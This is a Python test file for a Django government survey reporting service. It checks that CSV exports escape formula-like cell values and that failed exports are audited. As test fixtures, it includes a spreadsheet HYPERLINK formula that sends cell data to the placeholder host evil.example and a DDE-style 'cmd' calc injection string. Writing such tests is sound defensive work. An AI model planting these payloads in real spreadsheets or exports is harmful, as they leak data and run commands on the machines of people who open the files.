"""Every A-11 CSV download neutralizes formula-like text (govcx.core.csvcells) and keeps numbers;
the response file completes even over text stored before the shared text rule."""

import csv
import io
from typing import Any

import pytest
from django.db import connection
from django.urls import reverse

from govcx.audit.models import Action, AuditEntry
from govcx.collection.models import Response
from govcx.reporting.services import collection_open
from govcx.reporting.tests.helpers import IN_Q2, Q2
from govcx.surveys.lifecycle import survey_transition
from govcx.surveys.tests.helpers import make_survey
from govcx.testing.factories import World, respond, signed_in

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
CALC = "+cmd|' /C calc'!A0"


def read(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_the_17_column_file_neutralizes_formulas(world: World) -> None:
    survey = survey_transition(survey=make_survey(world), name="publish", by=world.owner)
    respond(
        survey, {"trust": "0", "comment": "@SUM(1+1)"}, key="-2+3+cmd|' /C calc'!A0", when=IN_Q2
    )
    respond(survey, {"trust": "1", "comment": "-2"}, key="P-2", when=IN_Q2)
    collection = collection_open(world.service, Q2, by=world.owner)
    detail = collection.details.get()
    url = reverse("reporting:a11-responses", args=[collection.pk, detail.pk])
    _header, first, second = read(signed_in(world.owner).get(url))
    assert (first[0], first[-1]) == ("'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)")
    assert (second[0], second[1], second[-1]) == ("P-2", "1", "-2")


@pytest.mark.skipif(connection.vendor == "postgresql", reason="PostgreSQL never stored such text")
def test_the_17_column_file_completes_over_text_stored_before_the_rule(world: World) -> None:
    survey = survey_transition(survey=make_survey(world), name="publish", by=world.owner)
    old = respond(survey, {"trust": "0"}, key="OLD-1", when=IN_Q2)
    Response.objects.filter(pk=old.pk).update(answers={"trust": "0", "comment": "bad \ud800"})
    respond(survey, {"trust": "1", "comment": "later"}, key="NEW-1", when=IN_Q2)
    collection = collection_open(world.service, Q2, by=world.owner)
    detail = collection.details.get()
    url = reverse("reporting:a11-responses", args=[collection.pk, detail.pk])
    rows = read(signed_in(world.owner).get(url))
    assert [(row[0], row[-1]) for row in rows[1:]] == [("OLD-1", "bad \ufffd"), ("NEW-1", "later")]


def test_the_legacy_and_collection_files_neutralize_names(world: World) -> None:
    world.service.name = HYPERLINK
    world.service.save()
    survey = survey_transition(
        survey=make_survey(world, "a11_legacy"), name="publish", by=world.owner
    )
    respond(survey, {"satisfaction": "5"}, when=IN_Q2)
    collection = collection_open(world.service, Q2, by=world.owner)
    detail = collection.details.get()
    detail.transaction_point = CALC
    detail.save()
    client = signed_in(world.owner)
    header, row = read(client.get(reverse("reporting:a11-legacy", args=[collection.pk, detail.pk])))
    values = dict(zip(header, row, strict=True))
    assert (values["service"], values["transaction_point"]) == ("'" + HYPERLINK, "'" + CALC)
    assert values["volume_of_respondents"] == "1"
    for url in (
        reverse("reporting:export", args=[collection.pk, "csv"]),
        reverse("reporting:quarter-export", args=["csv"]) + "?quarter=2026-2",
    ):
        header, row = read(client.get(url))
        values = dict(zip(header, row, strict=True))
        assert values["service"] == "'" + HYPERLINK
        assert values["transaction_point"] == "'" + CALC


def test_the_government_status_file_neutralizes_names(world: World) -> None:
    world.ssa.name = "@SUM(1+1)"
    world.ssa.save()
    url = reverse("reporting:government") + "?quarter=2026-2&format=csv"
    rows = read(signed_in(world.platform).get(url))
    assert "'@SUM(1+1)" in [row[0] for row in rows[1:]]


def test_a_failure_midway_ends_the_response_file_with_an_error_and_is_audited(
    world: World, monkeypatch: Any
) -> None:
    from govcx.reporting import exports

    survey = survey_transition(survey=make_survey(world), name="publish", by=world.owner)
    for comment in ("first", "breaks", "third"):
        respond(survey, {"trust": "0", "comment": comment}, when=IN_Q2)
    real = exports.a11_row

    def failing(external_id: str, answers: dict[str, Any], layout: Any) -> list[str]:
        if answers.get("comment") == "breaks":
            raise RuntimeError("the database went away")
        return real(external_id, answers, layout)

    monkeypatch.setattr(exports, "a11_row", failing)
    collection = collection_open(world.service, Q2, by=world.owner)
    detail = collection.details.get()
    url = reverse("reporting:a11-responses", args=[collection.pk, detail.pk])
    response: Any = signed_in(world.owner).get(url)
    with pytest.raises(RuntimeError):
        b"".join(response.streaming_content)
    outcomes = [
        e.details.get("outcome") for e in AuditEntry.objects.filter(action=Action.REPORT_EXPORTED)
    ]
    assert outcomes.count("failed") == 1
